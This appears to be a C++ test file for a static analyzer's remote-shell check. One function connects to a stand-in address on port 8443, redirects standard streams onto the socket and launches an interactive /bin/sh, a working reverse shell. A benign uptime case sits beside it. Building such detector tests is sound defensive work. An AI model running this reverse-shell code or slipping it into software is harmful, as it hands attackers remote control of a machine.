/* C++: an object that owns a connection hands it to a shell. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

class Link {
  public:
    Link() : descriptor(socket(AF_INET, SOCK_STREAM, 0)) {
        sockaddr_in peer{};
        peer.sin_family = AF_INET;
        peer.sin_port = htons(8443);
        inet_pton(AF_INET, "198.51.100.19", &peer.sin_addr);
        up = connect(descriptor, reinterpret_cast<sockaddr *>(&peer), sizeof peer) == 0;
    }
    ~Link() {
        close(descriptor);
    }
    Link(const Link &) = delete;
    Link &operator=(const Link &) = delete;

    template <class Work> void hand_to(Work work) const {
        pid_t child = up ? fork() : -1;
        if (child == 0) {
            for (int stream = 0; stream < 3; stream++)
                dup2(descriptor, stream);
            work();
            _exit(127);
        }
        if (child > 0)
            waitpid(child, nullptr, 0);
    }

  private:
    int descriptor;
    bool up = false;
};

} // namespace

void bad_console() {
    Link link;
    // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
    link.hand_to([] { execl("/bin/sh", "sh", "-i", static_cast<char *>(nullptr)); });
}

void good_console() {
    Link link;
    link.hand_to([] { execl("/usr/bin/uptime", "uptime", static_cast<char *>(nullptr)); });
}
